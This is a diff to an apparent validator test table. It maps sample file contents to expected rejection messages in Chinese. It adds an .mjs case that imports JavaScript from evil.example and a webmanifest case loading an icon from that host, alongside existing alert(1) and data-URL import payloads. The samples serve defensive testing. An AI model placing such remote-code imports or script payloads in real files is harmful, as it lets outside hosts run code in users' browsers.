@@ -123,6 +123,10 @@ FILES = {
         'import("data:text/javascript,alert(1)")': "脚本里有别的网站的网址",
         'alert(1)({"a": "https://evil.example/"})': "脚本里有别的网站的网址",
     },
+    "a.mjs": {"import('https://evil.example/x.js')": "脚本里有别的网站的网址"},
+    "a.webmanifest": {
+        '{"icons": [{"src": "https://evil.example/x.png"}]}': "脚本里有别的网站的网址"
+    },
     "a.xml": {
         "<html xmlns='http://www.w3.org/1999/xhtml'/>": "当作网页",
         "<?xml-stylesheet href='x.xsl'?><a/>": "当作网页",
